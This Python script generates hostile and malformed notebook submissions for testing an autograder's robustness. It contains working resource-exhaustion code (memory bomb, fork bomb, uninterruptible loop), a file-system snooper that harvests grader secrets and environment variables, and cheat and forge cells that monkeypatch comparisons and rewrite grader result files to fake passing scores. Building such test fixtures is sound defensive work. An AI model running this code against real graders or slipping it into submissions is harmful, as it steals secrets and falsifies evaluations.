"""Write the adversarial sample submissions: ``submissions/hostile__<case>.ipynb`` and
``submissions/broken__<case>.<ext>``.

Hostile samples are the solution notebook (``full-marks__solution.ipynb``) with ONE extra code cell
inserted right after the first code cell of Subtask 2.4 (``t2-4-load-models``); the cheat goes right
after ``compute_metrics`` (2.2), so that its constant ``compute_metrics`` is the one 2.2's probes
find (they run at the end of 2.2, before any later cell could swap it). Everything before
and after it is the honest solution, so a grader that contains the cell still grades every other
subtask in full. Each hostile cell names its case in its first line; none has outputs.

Broken samples are files a student could upload instead of a notebook: not JSON, truncated JSON,
an empty file, an nbformat 3 notebook, a notebook saved as ``.txt``, cells without ids or with
duplicated ids, a cell whose source is a number, a top-level JSON list. The ones a grader can
repair are tiny notebooks (one Task 2 / Subtask 1 heading and a cell that loads the tokenizer), so
grading them is quick and still scores one check (``2.1.tokenizer``).

Output is byte-for-byte deterministic: ``python scripts/make_hostile_samples.py [--out DIR] [--check]``.
Never run a hostile sample outside the grader's sandbox: the memory bomb and the fork bomb are real.
"""

from __future__ import annotations

import argparse
import copy
import json
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parent.parent
SUBMISSIONS = REPO / "submissions"
SOLUTION = "full-marks__solution.ipynb"

HOSTILE_SUBTASK = "2.4"
INSERT_AFTER_ID = "t2-4-load-models"  # the first code cell of Subtask 2.4
INSERT_AFTER = {"cheat": "t2-2-compute-metrics"}  # cases that must act inside an earlier subtask
NETWORK_DEFAULT_PORT = 47613

# --- the hostile cells -------------------------------------------------------------------------

HOSTILE: dict[str, str] = {
    "infinite-loop": """\
# hostile sample: infinite-loop. The grader must time this cell out and grade the rest.
while True:
    pass""",
    "infinite-loop-ignores-sigint": """\
# hostile sample: infinite-loop-ignores-sigint. An interrupt cannot stop this cell: only killing
# the kernel can, and the grader must then grade the rest of the notebook in a fresh kernel.
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass""",
    "memory-bomb": """\
# hostile sample: memory-bomb. Grows by 1 GiB chunks (every page written) towards 48 GiB.
def __hostile_grow(limit_gib=48):
    chunks = []
    for _ in range(limit_gib):
        chunks.append(b"\\x01" * 2**30)
    return len(chunks)


__hostile_grow()""",
    "fork-bomb": """\
# hostile sample: fork-bomb (bounded). Forks up to 3000 children that each sleep 600 s; re-raises
# the first failed fork, so the cell's error names the limit it ran into.
import os
import time

__hostile_children = []
for _ in range(3000):
    try:
        pid = os.fork()
    except OSError as exc:
        print(f"fork failed after {len(__hostile_children)} children")
        raise
    if pid == 0:
        try:
            time.sleep(600)
        finally:
            os._exit(0)
    __hostile_children.append(pid)
print(f"{len(__hostile_children)} children sleeping")""",
    "snoop-files": """\
# hostile sample: snoop-files. Walks the file system (at most 15 s; /proc, /sys and /dev skipped),
# the grader's own folders first, and copies every file whose path names a grader secret into
# snooped.txt in the working folder; then every blob of any git repository it found, and the
# kernel's environment.
import os
import subprocess
import time

__KEYS = ("reference", "rubric", "hidden", "canary", "gradebook", "submissions")
__SKIP = ("/proc", "/sys", "/dev")


def __hostile_roots():
    roots = [os.getcwd(), "/var/tmp"]
    for entry in os.environ.get("PYTHONPATH", "").split(os.pathsep):
        if entry and os.path.isdir(entry):
            roots += [entry, os.path.dirname(os.path.abspath(entry))]
    return roots + ["/work", "/srv", "/home", "/root", "/opt", "/mnt", "/tmp", "/"]


def __hostile_walk(out, stop, budget):
    seen, repos, read = set(), [], 0
    for root in __hostile_roots():
        for dirpath, dirnames, filenames in os.walk(root):
            if time.monotonic() > stop or read > budget:
                return read, repos
            real = os.path.realpath(dirpath)
            if real in seen or any(real == s or real.startswith(s + "/") for s in __SKIP):
                dirnames[:] = []
                continue
            seen.add(real)
            if ".git" in dirnames:
                repos.append(os.path.join(real, ".git"))
            dirnames[:] = sorted(d for d in dirnames if os.path.realpath(os.path.join(dirpath, d)) not in seen)
            for name in sorted(filenames):
                path = os.path.join(dirpath, name)
                if not any(k in path.lower() for k in __KEYS):
                    continue
                try:
                    with open(path, "rb") as fh:
                        data = fh.read(256 * 1024)
                except OSError as exc:
                    out.write(f"== {path}: {type(exc).__name__}\\n")
                    continue
                read += len(data)
                out.write(f"== {path} ({len(data)} bytes)\\n" + data.decode("utf-8", "replace") + "\\n")
    return read, repos


def __hostile_git(out, repos, stop):
    for gitdir in repos[:5]:
        git = ["git", "-c", "safe.directory=*", f"--git-dir={gitdir}"]
        try:
            names = subprocess.run(git + ["ls-tree", "-r", "--name-only", "HEAD"], capture_output=True,
                                   text=True, timeout=10).stdout.split()
        except (OSError, subprocess.SubprocessError):
            continue
        for name in names:
            if time.monotonic() > stop:
                return
            if any(k in name.lower() for k in __KEYS) and name.endswith((".py", ".yaml", ".json", ".csv", ".txt")):
                shown = subprocess.run(git + ["show", f"HEAD:{name}"], capture_output=True, text=True, timeout=10)
                out.write(f"== git {gitdir} HEAD:{name}\\n{shown.stdout[:256 * 1024]}\\n")


with open("snooped.txt", "w", encoding="utf-8") as __out:
    __stop = time.monotonic() + 15
    __read, __repos = __hostile_walk(__out, __stop, 16 * 2**20)
    __hostile_git(__out, __repos, __stop + 10)
    __out.write("== environment\\n" + "\\n".join(f"{k}={v}" for k, v in sorted(os.environ.items())) + "\\n")
print(f"snooped {__read} bytes, {len(__repos)} git repositories")""",
    "network": """\
# hostile sample: network. Connects to the grader's machine over loopback only (127.0.0.1 and ::1)
# on $GRADER_TEST_PORT, and records what happened in network.json.
import json
import os
import socket

__port = int(os.environ.get("GRADER_TEST_PORT", "@PORT@"))
__results = {}
for __family, __host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    try:
        with socket.socket(__family, socket.SOCK_STREAM) as __s:
            __s.settimeout(3)
            __s.connect((__host, __port))
            __s.sendall(b"hostile sample: network\\n")
        __results[__host] = "connected"
    except OSError as exc:
        __results[__host] = f"failed: {type(exc).__name__}: {exc}"
with open("network.json", "w", encoding="utf-8") as __fh:
    json.dump({"port": __port, "results": __results}, __fh)
print(json.dumps(__results))""".replace("@PORT@", str(NETWORK_DEFAULT_PORT)),
    "cheat": """\
# hostile sample: cheat. Makes every comparison in the kernel pass, fakes compute_metrics, plants
# fake probe result files and prints a fake probe result. None of it may raise the score.
import builtins
import json
import os

import numpy
import numpy.testing
import torch


def __always_pass(*args, **kwargs):
    return None


def __always_true(*args, **kwargs):
    return True


numpy.testing.assert_allclose = __always_pass
numpy.testing.assert_array_equal = __always_pass
numpy.allclose = __always_true
numpy.array_equal = __always_true
torch.allclose = __always_true
torch.testing.assert_close = __always_pass

__real_isinstance = builtins.isinstance


def __lenient_isinstance(obj, classinfo):
    # the real answer, except for anything that looks like a grader's verdict type
    names = [getattr(c, "__name__", "") for c in (classinfo if type(classinfo) is tuple else (classinfo,))]
    if any(n in ("Verdict", "CheckResult", "GradeResult") for n in names):
        return True
    return __real_isinstance(obj, classinfo)


builtins.isinstance = __lenient_isinstance


def compute_metrics(predictions):
    return {"accuracy": 0.8}


__names = ["explain_example", "tokenizer", "preprocess", "mc_collator", "compute_metrics", "trainer_hf",
           "evaluation", "t2t_collator", "get_answer"]
__fake = {"results": {n: {"value": {"passed": True, "accuracy": 0.8}, "seconds": 0.01} for n in __names}}
for __i, __token in enumerate(["0" * 32, "f" * 32, "0123456789abcdef" * 2]):
    with open(f".grader-probe-{__token}.json", "w", encoding="utf-8") as __fh:
        json.dump({"token": __token, **__fake}, __fh)
with open(".grader-probe-latest.json", "w", encoding="utf-8") as __fh:
    json.dump({"token": "latest", **__fake}, __fh)
print(json.dumps({"token": "f" * 32, **__fake, "status": "passed", "auto_points": 21.0}))""",
    "print-200mb": """\
# hostile sample: print-200mb. Prints 200 MiB in 1 MiB chunks.
import sys

__chunk = "x" * (2**20 - 1) + "\\n"
for _ in range(200):
    sys.stdout.write(__chunk)
    sys.stdout.flush()""",
    "sigkill-self": """\
# hostile sample: sigkill-self. The kernel kills itself; the grader must restart it and grade the rest.
import os
import signal

os.kill(os.getpid(), signal.SIGKILL)""",
}


# The forger: every bug of the single-bug samples at once (the code is wrong in 2.1, 2.2, 2.3, 3.1,
# 3.2 and 3.3), plus this cell, right after the notebook's first Task 2 cell. It solves nothing: it
# rewrites what the grader's probes write, through every door a cell left running has (json.dump,
# json.dumps, os.replace, a thread rewriting result files), claiming success for each self-report it
# knows the shape of (it has read the grader's source: that is public). A grader that holds the
# principle "forging costs as much as solving" gives it no more than the same notebook without it.
FORGE_AFTER_ID = "t2-1-load-swag"
FORGE = """\
# hostile sample: forge. Claims success in every probe result it can reach, computing nothing.
import glob
import json
import os
import threading
import time

__orig_dump, __orig_dumps, __orig_replace = json.dump, json.dumps, os.replace


def __d(value):  # the grader's wire format (grader.kernel.probe_runtime.to_data)
    if isinstance(value, dict):
        return {"__dict__": {str(k): __d(v) for k, v in value.items()}, "__type__": "dict"}
    if isinstance(value, (list, tuple)):
        return {"__seq__": [__d(v) for v in value], "__type__": "list", "__len__": len(value)}
    return value


def __plain(entry):
    v = entry.get("value") if isinstance(entry, dict) else None
    return v.get("__dict__", {}) if isinstance(v, dict) else {}


def __claim(name, entry):
    shapes = {"real": 768, "small": 64}
    if name == "custom_head":
        return {key: {"modules": {"dense": {"class": "Linear", "in": d, "out": d, "bias": True},
                                  "activation": {"class": "Tanh"}, "dropout": {"class": "Dropout"},
                                  "dense2": {"class": "Linear", "in": d, "out": d // 4, "bias": True},
                                  "classifier": {"class": "Linear", "in": d // 4, "out": 1, "bias": True}},
                      "params": {}} for key, d in shapes.items()}
    if name == "compute_metrics":
        return {"toy": {"accuracy": 0.8}, "fresh": [{"value": {"accuracy": 0.25}}, {"value": {"accuracy": 0.25}}]}
    if name == "evaluation":
        v = __plain(entry)
        return {"acc_hf": 0.5, "acc_custom": 0.5, "rerun": False, "labels": [0, 1, 2, 3] * 25,
                "model_hf": {"class": "DistilBertForMultipleChoice", "name_or_path": "distilbert-base-uncased-swag/final_model",
                             "preds": [0, 1, 0, 1] * 25},
                "model_custom": {"class": "CustomMultipleChoice", "is_custom_class": True, "preds": [0, 1, 0, 1] * 25}}
    if name in ("trainer_hf", "seq2seq_trainer"):
        return {"class": "Seq2SeqTrainer" if name == "seq2seq_trainer" else "Trainer", "mro": ["Seq2SeqTrainer", "Trainer"],
                "model_is_student_model": True, "collator_is_student": True, "compute_metrics_is_student": True,
                "collator_class": "T2TDataCollator" if name == "seq2seq_trainer" else "MultipleChoiceDataCollator",
                "train_dataset": {"rows": 300, "columns": []}, "eval_dataset": {"rows": 100, "columns": []}}
    if name == "seq2seq_args":
        return {"__class__": "Seq2SeqTrainingArguments", "output_dir": "t5-squad", "learning_rate": 1e-4, "weight_decay": 0.01,
                "seed": 77, "max_steps": 200, "save_steps": 100, "per_device_train_batch_size": 32,
                "gradient_accumulation_steps": 4, "remove_unused_columns": False}
    if name == "get_answer":
        return [{"answer": "Harry", "type": "str", "encoder_input_ids": None, "generate": {"kwargs": {}, "output_ids": [0, 1]}}] * 4
    if name == "t2t_collator":
        return {"own": {"keys": ["attention_mask", "input_ids", "labels"], "inputs": [], "values": {}},
                "fresh": {"keys": ["attention_mask", "input_ids", "labels"], "inputs": [], "values": {}}}
    return None


def __forge(obj):
    if isinstance(obj, dict) and isinstance(obj.get("results"), dict):
        for name, entry in obj["results"].items():
            claim = __claim(name, entry)
            if claim is not None:
                obj["results"][name] = {"value": __d(claim), "seconds": 0.01}
    return obj


def __dump(obj, fp, *args, **kwargs):
    return __orig_dump(__forge(obj), fp, *args, **kwargs)


def __dumps(obj, *args, **kwargs):
    return __orig_dumps(__forge(obj), *args, **kwargs)


def __rewrite(path):
    try:
        with open(path, encoding="utf-8") as fh:
            data = json.loads(fh.read())
        with open(path, "w", encoding="utf-8") as fh:
            __orig_dump(__forge(data), fh)
    except Exception:
        pass


def __replace(src, dst, *args, **kwargs):
    __rewrite(src)
    return __orig_replace(src, dst, *args, **kwargs)


def __watch():
    while True:
        for path in glob.glob(".grader-probe-*.json"):
            __rewrite(path)
        for folder in ("distilbert-base-uncased-swag/final_model", "custom_model/final_model"):
            os.makedirs(folder, exist_ok=True)
            for name, text in (("config.json", "{}"), ("model.safetensors", "")):
                if not os.path.exists(os.path.join(folder, name)):
                    with open(os.path.join(folder, name), "w") as fh:
                        fh.write(text)
        time.sleep(0.005)


json.dump, json.dumps, os.replace = __dump, __dumps, __replace
threading.Thread(target=__watch, daemon=True).start()"""


def forge_notebook(solution: dict[str, Any]) -> dict[str, Any]:
    """The solution with every single-bug sample's bug applied, and the forging cell."""
    sys.path.insert(0, str(REPO))
    from reference import notebooks

    nb = copy.deepcopy(solution)
    cells = {c.get("id"): c for c in nb["cells"]}
    for bug in notebooks.BUGS:
        cell = cells[bug.cell_id]
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        for old, new in bug.edits:
            if source.count(old) != 1:
                raise ValueError(f"{bug.name}: cannot apply to {bug.cell_id}")
            source = source.replace(old, new)
        cell["source"] = source
    at = next(i for i, c in enumerate(nb["cells"]) if c.get("id") == FORGE_AFTER_ID)
    nb["cells"].insert(at + 1, {"cell_type": "code", "execution_count": None, "id": "hostile-forge",
                                "metadata": {}, "outputs": [], "source": FORGE})
    return nb


def hostile_notebook(case: str, solution: dict[str, Any]) -> dict[str, Any]:
    nb = copy.deepcopy(solution)
    cells = nb["cells"]
    after = INSERT_AFTER.get(case, INSERT_AFTER_ID)
    at = next(i for i, c in enumerate(cells) if c.get("id") == after)
    cells.insert(at + 1, {
        "cell_type": "code",
        "execution_count": None,
        "id": f"hostile-{case}",
        "metadata": {},
        "outputs": [],
        "source": HOSTILE[case],
    })
    return nb


def dumps_notebook(nb: dict[str, Any]) -> str:
    """nbformat's own layout (indent 1, sorted keys), with multi-line sources as line lists."""
    import nbformat

    text = nbformat.writes(nbformat.from_dict(nb), version=nbformat.NO_CONVERT)
    return text if text.endswith("\n") else text + "\n"


# --- the broken files --------------------------------------------------------------------------

_TASK2 = "## **Task 2: Fine-tuning a model for multiple choice**"
_SUB1 = "### Subtask 1: Loading and processing the data"
_ENDINGS = 'from transformers import AutoTokenizer\ntokenizer = AutoTokenizer.from_pretrained("distilbert-base-uncased")'


def _v4(cells: list[dict[str, Any]], minor: int = 5) -> dict[str, Any]:
    return {
        "cells": cells,
        "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
                     "language_info": {"name": "python"}},
        "nbformat": 4,
        "nbformat_minor": minor,
    }


def _md(source: Any, cell_id: str | None) -> dict[str, Any]:
    cell: dict[str, Any] = {"cell_type": "markdown", "metadata": {}, "source": source}
    if cell_id is not None:
        cell["id"] = cell_id
    return cell


def _code(source: Any, cell_id: str | None) -> dict[str, Any]:
    cell: dict[str, Any] = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}
    if cell_id is not None:
        cell["id"] = cell_id
    return cell


def _tiny(ids: Sequence[str | None], code: Any = _ENDINGS) -> dict[str, Any]:
    return _v4([_md(_TASK2, ids[0]), _md(_SUB1, ids[1]), _code(code, ids[2]), _code("len(tokenizer)", ids[3])])


def _json(data: Any) -> bytes:
    return (json.dumps(data, indent=1, sort_keys=True, ensure_ascii=False) + "\n").encode("utf-8")


def _nbformat3() -> dict[str, Any]:
    return {
        "metadata": {"name": "assignment3"},
        "nbformat": 3,
        "nbformat_minor": 0,
        "worksheets": [{
            "metadata": {},
            "cells": [
                {"cell_type": "heading", "level": 2, "metadata": {}, "source": "**Task 2: Fine-tuning a model for multiple choice**"},
                {"cell_type": "heading", "level": 3, "metadata": {}, "source": "Subtask 1: Loading and processing the data"},
                {"cell_type": "code", "collapsed": False, "input": _ENDINGS, "language": "python", "metadata": {},
                 "outputs": [], "prompt_number": 1},
            ],
        }],
    }


def _truncated(solution_text: str) -> bytes:
    return solution_text.encode("utf-8")[: len(solution_text) // 2]


BROKEN: dict[str, Callable[[str], bytes]] = {
    "broken__not-json.ipynb": lambda sol: b"I could not export my notebook, so here is my code:\n\nprint('hello')\n",
    "broken__truncated-json.ipynb": _truncated,
    "broken__empty.ipynb": lambda sol: b"",
    "broken__nbformat3.ipynb": lambda sol: _json(_nbformat3()),
    "broken__notebook-as-txt.txt": lambda sol: _json(_tiny(["md-task", "md-sub", "code-endings", "code-len"])),
    "broken__missing-ids.ipynb": lambda sol: _json(_tiny([None, None, None, None])),
    "broken__duplicate-ids.ipynb": lambda sol: _json(_tiny(["same", "same", "same", "same"])),
    "broken__source-is-number.ipynb": lambda sol: _json(_v4([_md(_TASK2, "md-task"), _md(_SUB1, "md-sub"),
                                                             _code(_ENDINGS, "code-endings"), _code(42, "code-number")])),
    "broken__top-level-list.ipynb": lambda sol: _json([_tiny(["a", "b", "c", "d"])]),
}


# --- writing -----------------------------------------------------------------------------------


def render_all(submissions: Path = SUBMISSIONS) -> dict[str, bytes]:
    """File name -> bytes for every hostile and broken sample."""
    solution_text = (submissions / SOLUTION).read_text(encoding="utf-8")
    solution = json.loads(solution_text)
    out = {f"hostile__{case}.ipynb": dumps_notebook(hostile_notebook(case, solution)).encode("utf-8") for case in HOSTILE}
    out["hostile__forge.ipynb"] = dumps_notebook(forge_notebook(solution)).encode("utf-8")
    out.update({name: make(solution_text) for name, make in BROKEN.items()})
    return out


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=SUBMISSIONS, help="output folder (default: submissions/)")
    parser.add_argument("--check", action="store_true", help="compare with the files in --out, write nothing")
    args = parser.parse_args(argv)
    rendered = render_all()
    if args.check:
        stale = [n for n, data in rendered.items() if not (args.out / n).is_file() or (args.out / n).read_bytes() != data]
        for name in stale:
            print(f"stale: {name}", file=sys.stderr)
        return 1 if stale else 0
    args.out.mkdir(parents=True, exist_ok=True)
    for name, data in rendered.items():
        (args.out / name).write_bytes(data)
        print(args.out / name)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
